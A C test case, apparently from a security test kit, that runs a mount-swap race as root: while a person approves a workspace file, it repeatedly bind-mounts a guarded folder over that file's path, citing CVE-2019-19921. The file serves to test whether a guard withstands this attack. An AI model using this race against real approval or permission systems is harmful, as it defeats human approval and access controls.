// tries: to have a person approve a file of the workspace, and to mount what is guarded over its folder meanwhile
// works: a path means what is mounted there
// see: mount(2), MS_BIND; CVE-2019-19921 (runc)
// goal: change
// user: root
// first: mkdir -p "$WORK/asked"; echo own >"$WORK/asked/asked"; chown -R dev "$WORK/asked"; . "$KIT/attacks/approver.sh"; meanwhile approve_all "$WORK/asked/asked"
// undo: umount -q "$WORK/asked"; true
#include "../kit.h"

int main(void)
{
	const char *folder = join(env("WORK"), "/asked"), *file = join(folder, "/asked");
	time_t end = time(NULL) + 6;
	pid_t child = keep_writing(file);

	while (time(NULL) < end) {
		if (mount(env("GUARDED"), folder, NULL, MS_BIND, NULL) < 0)
			perror("mount");
		usleep(100000);
		umount2(folder, MNT_DETACH);
		usleep(150000);
	}
	kill(child, SIGKILL);
	return 0;
}
